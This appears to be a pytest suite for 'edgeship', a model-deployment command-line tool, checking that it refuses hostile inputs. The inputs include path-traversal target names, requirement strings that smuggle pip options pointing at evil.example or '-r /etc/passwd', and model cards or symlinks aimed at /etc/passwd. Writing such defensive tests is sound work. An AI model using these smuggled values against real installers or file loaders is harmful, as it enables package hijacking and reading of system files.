"""Hostile paths (issue 22, first half): nothing written outside the output, nothing of the user's lost.

Each test is one case of the issue, tried the way a user runs edgeship: the command in a
subprocess (the API as a plain script where it matters). Names from targets and cards
become paths only through one rule, every file a command writes follows one overwrite
rule, deploy removes only what it wrote, one writer per output folder, and a full disk
names the file it could not write.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pytest

from tests.conftest import save, tiny_classifier

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")

ROOT = Path(__file__).parents[1]
HOST_TOML = (ROOT / "targets" / "x86-host.toml").read_text()


def edgeship(*args: str | Path, cwd: Path | None = None, timeout: float = 600) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "edgeship", *map(str, args)],
        capture_output=True,
        text=True,
        cwd=cwd,
        timeout=timeout,
        check=False,
    )


def one_line(proc: subprocess.CompletedProcess[str], code: int = 1, match: str = "") -> str:
    """Exit ``code``, exactly one line on stderr, no traceback, containing ``match``."""
    err = proc.stderr.strip()
    assert proc.returncode == code, (proc.returncode, err[-2000:])
    assert len(err.splitlines()) == 1 and "Traceback" not in err, err
    assert match in err, err
    return err


def tree(folder: Path) -> dict[str, bytes]:
    """Every file under ``folder`` with its bytes (to show nothing changed)."""
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def target_file(folder: Path, name: str = "x86-host", **replace: str) -> Path:
    """A copy of the x86-host profile with some lines replaced (old text -> new text)."""
    text = HOST_TOML.replace('name = "x86-host"', f"name = {json.dumps(name)}")
    for old, new in replace.items():
        text = text.replace(old, new)
    path = folder / f"target-{len(list(folder.glob('target-*.toml')))}.toml"
    path.write_text(text)
    return path


@pytest.fixture()
def images(tmp_path: Path) -> Path:
    from PIL import Image

    folder = tmp_path / "imgs"
    folder.mkdir()
    rng = np.random.default_rng(5)
    for i in range(24):
        Image.fromarray((rng.random((40, 48, 3)) * 255).astype(np.uint8)).save(folder / f"img_{i:02d}.png")
    return folder


@pytest.fixture()
def model(tmp_path: Path) -> Path:
    return save(tiny_classifier(), tmp_path / "tiny.onnx")


# ------------------------------------------------------------------ 1. a target's name becomes a path


@pytest.mark.parametrize("name", ["../../victim", "a/b", "/etc", "..", "", "x\ny", "tab\there", "back\\slash"])
def test_target_name_must_be_a_file_name(tmp_path: Path, name: str) -> None:
    err = one_line(edgeship("targets", "show", target_file(tmp_path, name)))
    # a control character is refused by the profile's text rule first (tests/test_hostile_text.py)
    assert "name must" in err or "key 'name' must be one line of text without control characters" in err, err


def test_target_name_never_reaches_outside_the_output(tmp_path: Path, model: Path, images: Path) -> None:
    victim = tmp_path / "victim"  # where out/verify/../../victim lands
    victim.mkdir()
    (victim / "data.txt").write_text("the user's")
    evil = target_file(tmp_path, "../../victim")
    one_line(
        edgeship("deploy", model, "--calib", images, "-o", tmp_path / "out", "--target", evil, "-q"),
        match="name must be a file name",
    )
    assert tree(victim) == {"data.txt": b"the user's"} and not (tmp_path / "out").exists()


def test_target_name_checked_by_the_api(tmp_path: Path) -> None:
    script = tmp_path / "user.py"
    script.write_text(f"from edgeship.targets import load_target\nload_target({str(target_file(tmp_path, 'a/b'))!r})\n")
    proc = subprocess.run([sys.executable, str(script)], capture_output=True, text=True, check=False)
    assert proc.returncode == 1 and "TargetError" in proc.stderr and "name must be a file name" in proc.stderr


# ------------------------------------------------------------------ 5. target strings reach requirements.txt


@pytest.mark.parametrize(
    "old,new",
    [
        ('versions = ">=2.1.0,<2.4"', 'versions = """>=2.1.0\n--extra-index-url http://evil.example/simple"""'),
        ('versions = ">=2.1.0,<2.4"', 'versions = ">=2.1.0 -r /etc/passwd"'),
        ('package = "ai-edge-litert"', 'package = """ai-edge-litert\n-r /etc/passwd"""'),
        ('package = "ai-edge-litert"', 'package = "--index-url=http://evil.example"'),
    ],
)
def test_target_requirement_strings_are_requirements(tmp_path: Path, old: str, new: str) -> None:
    evil = target_file(tmp_path, "x86-host", **{old: new})
    one_line(edgeship("targets", "show", evil), match="runtime.")
    out = tmp_path / "bundle"
    one_line(edgeship("bundle", tmp_path / "any.tflite", "--target", evil, "-o", out), match="runtime.")
    assert not out.exists()


def test_plain_requirements_still_load(tmp_path: Path) -> None:
    ok = target_file(tmp_path, "my-pi", **{'versions = ">=2.1.0,<2.4"': 'versions = "~=2.1, != 2.2.0"'})
    proc = edgeship("targets", "show", ok)
    assert proc.returncode == 0 and "versions=~=2.1, != 2.2.0" in proc.stdout, proc.stderr


# ------------------------------------------------------------------ 2. --json FILE and -r overwrite anything


def test_json_never_replaces_the_commands_own_input(tmp_path: Path, model: Path) -> None:
    before = model.read_bytes()
    (tmp_path / "hard.onnx").hardlink_to(model)
    (tmp_path / "link.onnx").symlink_to(model)
    for json_file, force in [
        (model, []),
        (model, ["--force"]),
        (tmp_path / "hard.onnx", ["--force"]),
        (tmp_path / "link.onnx", ["--force"]),
    ]:
        one_line(
            edgeship("convert", model, "-o", tmp_path / "x", "--json", json_file, "-q", *force),
            code=2,
            match="which this command reads",
        )
        assert model.read_bytes() == before and not (tmp_path / "x").exists()


def test_outputs_never_replace_the_commands_own_input(tmp_path: Path, model: Path) -> None:
    folder = tmp_path / "work"
    folder.mkdir()
    source = folder / "model_simplified.onnx"  # the name of one of convert's outputs
    shutil.copy(model, source)
    one_line(edgeship("convert", source, "-o", folder, "--force", "-q"), match="which this command reads")
    assert source.read_bytes() == model.read_bytes() and sorted(p.name for p in folder.iterdir()) == [source.name]


def test_json_never_replaces_an_existing_file_without_force(tmp_path: Path) -> None:
    notes = tmp_path / "notes.txt"
    notes.write_text("the user's")
    # a command that fails: before, its error report replaced the file anyway
    one_line(
        edgeship("convert", tmp_path / "missing.onnx", "-o", tmp_path / "x", "--json", notes),
        code=2,
        match="exists; pass --force",
    )
    one_line(edgeship("targets", "list", "--json", notes), code=2, match="exists; pass --force")
    assert notes.read_text() == "the user's"
    assert edgeship("targets", "list", "--json", notes, "--force").returncode == 0
    assert json.loads(notes.read_text())["command"] == "targets"


def test_verify_report_never_replaces_an_input(tmp_path: Path, tiny_bundle: Path, images: Path) -> None:
    candidate = tiny_bundle / "model_float32.tflite"
    before = candidate.read_bytes()
    one_line(
        edgeship(
            "verify",
            tmp_path / "ref.onnx",
            candidate,
            "--images",
            images,
            "--target",
            "x86-host",
            "-r",
            candidate,
            "--force",
            "-q",
        ),
        match="which this command reads",
    )
    assert candidate.read_bytes() == before
    image = next(images.iterdir())
    one_line(
        edgeship(
            "verify",
            tmp_path / "ref.onnx",
            candidate,
            "--images",
            images,
            "--target",
            "x86-host",
            "-r",
            image,
            "--force",
            "-q",
        ),
        match="which this command reads",
    )
    report = tmp_path / "r.json"
    one_line(
        edgeship(
            "verify",
            tmp_path / "ref.onnx",
            candidate,
            "--images",
            images,
            "--target",
            "x86-host",
            "-r",
            report,
            "--json",
            report,
            "-q",
        ),
        code=2,
        match="also written",
    )


# ------------------------------------------------------------------ 3. deploy --force deletes the user's files


def _user_folder(folder: Path) -> dict[str, bytes]:
    (folder / "convert").mkdir(parents=True)
    (folder / "convert" / "notes.txt").write_text("mine")
    (folder / "bench").mkdir()
    (folder / "bench" / "results.csv").write_text("1,2,3")
    (folder / "mine.txt").write_text("keep")
    return tree(folder)


@pytest.mark.parametrize("force", [[], ["--force"]])
def test_deploy_never_removes_files_it_did_not_write(
    tmp_path: Path, model: Path, images: Path, force: list[str]
) -> None:
    out = tmp_path / "out"
    before = _user_folder(out)
    err = one_line(edgeship("deploy", model, "--calib", images, "-o", out, "--target", "x86-host", "-q", *force))
    assert "bench/results.csv" in err and "convert/notes.txt" in err and "did not write" in err, err
    assert tree(out) == before


def test_deploy_refusal_without_force_says_nothing_would_go(tmp_path: Path, model: Path, images: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "mine.txt").write_text("keep")
    err = one_line(edgeship("deploy", model, "--calib", images, "-o", out, "--target", "x86-host", "-q"))
    assert "not an edgeship deploy folder" in err and "mine.txt" in err and "replace none" in err, err
    assert tree(out) == {"mine.txt": b"keep"}


def test_deploy_force_writes_beside_user_files_and_records_what_it_wrote(
    tmp_path: Path, model: Path, images: Path
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "mine.txt").write_text("keep")
    args = [
        "deploy",
        model,
        "--calib",
        images,
        "-o",
        out,
        "--target",
        "x86-host",
        "--num-calib",
        "12",
        "--bench-runs",
        "5",
        "--bench-threads",
        "1",
        "-q",
    ]
    proc = edgeship(*args, "--force")
    assert proc.returncode in (0, 3), proc.stderr[-2000:]
    assert (out / "mine.txt").read_text() == "keep"
    written = set(json.loads((out / ".edgeship-deploy.json").read_text())["written"])
    assert "mine.txt" not in written and "deploy.json" in written and "bench/bench.json" in written
    (out / "bench" / "notes.txt").write_text("mine")  # a user's file where deploy writes
    err = one_line(edgeship(*args), match="bench/notes.txt")
    assert "did not write" in err and (out / "bench" / "notes.txt").read_text() == "mine"


def test_wrong_but_loadable_model_leaves_no_output_folder(tmp_path: Path, images: Path) -> None:
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    weights = numpy_helper.from_array(np.ones((10, 5), np.float32), "W")  # 5 inputs where the model has 3
    graph = helper.make_graph(
        [
            helper.make_node("GlobalAveragePool", ["x"], ["p"]),
            helper.make_node("Flatten", ["p"], ["f"]),
            helper.make_node("Gemm", ["f", "W"], ["y"], transB=1),
        ],
        "wrong",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 3, 16, 16])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 10])],
        [weights],
    )
    wrong = tmp_path / "wrong.onnx"
    onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)]), str(wrong))
    out = tmp_path / "new" / "out"
    proc = edgeship("deploy", wrong, "--calib", images, "-o", out, "--target", "x86-host", "-q")
    assert proc.returncode != 0 and not (tmp_path / "new").exists(), proc.stderr[-1000:]


# ------------------------------------------------------------------ 4. a bundle's card can point anywhere


def _bundle(tiny_bundle: Path, dest: Path, **card: object) -> Path:
    shutil.copytree(tiny_bundle, dest)
    path = dest / "model_card.json"
    path.write_text(json.dumps({**json.loads(path.read_text()), **card}))
    return dest


@pytest.mark.parametrize(
    "card",
    [
        {"labels_file": "/etc/passwd"},
        {"labels_file": "../labels.txt"},
        {"model_file": "../other/model_float32.tflite"},
        {"model_file": "/tmp/model_float32.tflite"},
        {"model_file": ""},
    ],
)
def test_card_file_names_are_file_names(tiny_bundle: Path, tmp_path: Path, images: Path, card: dict[str, str]) -> None:
    (tmp_path / "other").mkdir()
    shutil.copy(tiny_bundle / "model_float32.tflite", tmp_path / "other")
    (tmp_path / "labels.txt").write_text("secret\n" * 10)
    folder = _bundle(tiny_bundle, tmp_path / "b", **card)
    image = next(images.iterdir())
    proc = subprocess.run(
        [sys.executable, "-m", "edgeship.runtime", str(folder), str(image)], capture_output=True, text=True, check=False
    )
    one_line(proc, match=next(iter(card)))
    assert "root:" not in proc.stdout and "secret" not in proc.stdout
    one_line(
        edgeship("bundle", folder / "model_float32.tflite", "--target", "x86-host", "-o", tmp_path / "nb"),
        match=next(iter(card)),
    )
    assert not (tmp_path / "nb").exists()


def test_card_labels_link_leading_outside_is_refused(tiny_bundle: Path, tmp_path: Path, images: Path) -> None:
    folder = _bundle(tiny_bundle, tmp_path / "b", labels_file="labels.txt")
    (folder / "labels.txt").symlink_to("/etc/passwd")
    image = next(images.iterdir())
    one_line(
        subprocess.run(
            [sys.executable, "-m", "edgeship.runtime", str(folder), str(image)],
            capture_output=True,
            text=True,
            check=False,
        ),
        match="leads outside",
    )
    script = tmp_path / "user.py"
    script.write_text(f"from edgeship.runtime import Classifier\nClassifier.load({str(folder)!r})\n")
    proc = subprocess.run([sys.executable, str(script)], capture_output=True, text=True, check=False)
    assert proc.returncode == 1 and "InputError" in proc.stderr and "leads outside" in proc.stderr
    out = tmp_path / "nb"
    float32 = target_file(
        tmp_path,
        "host-float32",
        **{'precision = "int8"': 'precision = "float32"', 'io_dtype = "int8"': 'io_dtype = "float32"'},
    )
    one_line(edgeship("bundle", folder / "model_float32.tflite", "--target", float32, "-o", out), match="leads outside")
    assert not out.exists()


# ------------------------------------------------------------------ 6. external data linked outside the model


def test_external_data_link_outside_the_model_folder_is_refused(tmp_path: Path) -> None:
    import onnx

    folder, outside = tmp_path / "model", tmp_path / "outside"
    folder.mkdir()
    outside.mkdir()
    onnx.save(
        tiny_classifier(),
        str(folder / "m.onnx"),
        save_as_external_data=True,
        all_tensors_to_one_file=True,
        location="weights.bin",
        size_threshold=0,
    )
    shutil.move(str(folder / "weights.bin"), outside / "weights.bin")
    (folder / "weights.bin").symlink_to(outside / "weights.bin")
    one_line(edgeship("convert", folder / "m.onnx", "-o", tmp_path / "out", "-q"), match="leads outside")
    assert not (tmp_path / "out").exists()


# ------------------------------------------------------------------ 8. one writer per output folder

HOLD = """
import fcntl, os, sys, time
fd = os.open(sys.argv[1], os.O_RDWR | os.O_CREAT)
fcntl.flock(fd, fcntl.LOCK_EX)
os.write(fd, b"pid %d, a test" % os.getpid())
print("held", flush=True)
sys.stdin.read()
"""


@pytest.fixture()
def locked(tmp_path: Path):  # type: ignore[no-untyped-def]
    """A folder whose lock another process holds."""
    folder = tmp_path / "busy"
    folder.mkdir()
    (folder / "old.txt").write_text("old")
    holder = subprocess.Popen(
        [sys.executable, "-c", HOLD, str(folder / ".edgeship.lock")],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    assert holder.stdout is not None and holder.stdout.readline().strip() == "held"
    yield folder
    holder.communicate("", timeout=30)


def test_every_writing_command_respects_the_lock(
    locked: Path, model: Path, images: Path, tiny_bundle: Path, tmp_path: Path
) -> None:
    tflite = tiny_bundle / "model_float32.tflite"
    commands = [
        ["convert", model, "-o", locked, "--force"],
        ["quantize", model, "--calib", images, "-o", locked, "--force"],
        ["bundle", tflite, "--target", "x86-host", "-o", locked, "--force"],
        ["deploy", model, "--calib", images, "-o", locked, "--target", "x86-host", "--force"],
        ["verify", model, tflite, "--images", images, "--target", "x86-host", "-r", locked / "r.json"],
        ["bench", tflite, "-o", locked / "bench.json", "--runs", "2"],
    ]
    for args in commands:
        err = one_line(edgeship(*args, "-q"), match="being written by another edgeship run")
        assert "a test" in err, err  # names the holder
        assert tree(locked) == {"old.txt": b"old", ".edgeship.lock": tree(locked)[".edgeship.lock"]}


def test_two_deploys_into_one_folder(tmp_path: Path, model: Path, images: Path) -> None:
    out = tmp_path / "out"
    args = [
        "deploy",
        str(model),
        "--calib",
        str(images),
        "-o",
        str(out),
        "--target",
        "x86-host",
        "--num-calib",
        "12",
        "--bench-runs",
        "5",
        "--bench-threads",
        "1",
        "-q",
    ]
    first = subprocess.Popen(
        [sys.executable, "-m", "edgeship", *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )
    try:
        deadline = time.monotonic() + 120
        while not (out / ".edgeship.lock").exists():
            assert first.poll() is None and time.monotonic() < deadline, "the first deploy never locked its folder"
            time.sleep(0.05)
        one_line(edgeship(*args), match="being written by another edgeship run (pid")
    finally:
        _, err = first.communicate(timeout=900)
    assert first.returncode in (0, 3), err[-2000:]
    assert json.loads((out / "deploy.json").read_text())["targets"]["x86-host"]["bundle"]
    assert not (out / ".edgeship.lock").exists()


# ------------------------------------------------------------------ 10. output folder inside the image folder


def test_output_inside_the_calibration_folder_is_refused(tmp_path: Path, model: Path, images: Path) -> None:
    before = tree(images)
    one_line(
        edgeship("deploy", model, "--calib", images, "-o", images / "out", "--target", "x86-host", "-q"),
        match="inside the calibration folder",
    )
    one_line(edgeship("quantize", model, "--calib", images, "-o", images / "q", "-q"), match="inside --calib")
    one_line(edgeship("convert", model, "--images", images, "-o", images, "-q"), match="inside --images")
    assert tree(images) == before and sorted(p.name for p in images.iterdir() if p.is_dir()) == []


# ------------------------------------------------------------------ 12. two targets with one name


def test_two_targets_with_one_name_are_refused(tmp_path: Path, model: Path, images: Path) -> None:
    mine = tmp_path / "my"
    mine.mkdir()
    (mine / "x86-host.toml").write_text(HOST_TOML)
    out = tmp_path / "out"
    one_line(
        edgeship(
            "deploy",
            model,
            "--calib",
            images,
            "-o",
            out,
            "--target",
            "x86-host",
            "--target",
            mine / "x86-host.toml",
            "-q",
        ),
        match="two targets are named x86-host",
    )
    assert not out.exists()


# ------------------------------------------------------------------ 9. a full disk names the file


def _can_mount() -> bool:
    if not shutil.which("unshare"):
        return False
    mount = "mount -t tmpfs -o size=64k tmpfs"
    probe = subprocess.run(
        ["unshare", "--mount", "--map-root-user", "sh", "-c", f"{mount} /mnt || {mount} /tmp"],
        capture_output=True,
        check=False,
    )
    return probe.returncode == 0


@pytest.mark.skipif(not _can_mount(), reason="cannot mount a small tmpfs (unshare --mount --map-root-user)")
@pytest.mark.parametrize("free_kb", [8, 16, 32])
def test_full_disk_names_the_file_being_written(tmp_path: Path, model: Path, free_kb: int) -> None:
    disk = tmp_path / "disk"
    disk.mkdir()
    script = (
        'mount -t tmpfs -o size=256k tmpfs "$1" && dd if=/dev/zero of="$1/fill" bs=1k count="$2" 2>/dev/null; '
        'exec "$3" -m edgeship convert "$4" -o "$1/out" -q'
    )
    proc = subprocess.run(
        [
            "unshare",
            "--mount",
            "--map-root-user",
            "sh",
            "-c",
            script,
            "sh",
            str(disk),
            str(256 - free_kb),
            sys.executable,
            str(model),
        ],
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )
    err = one_line(proc, match="No space left on device")
    assert f"cannot write {disk}/out/" in err, err  # the file being written, not a source file or none
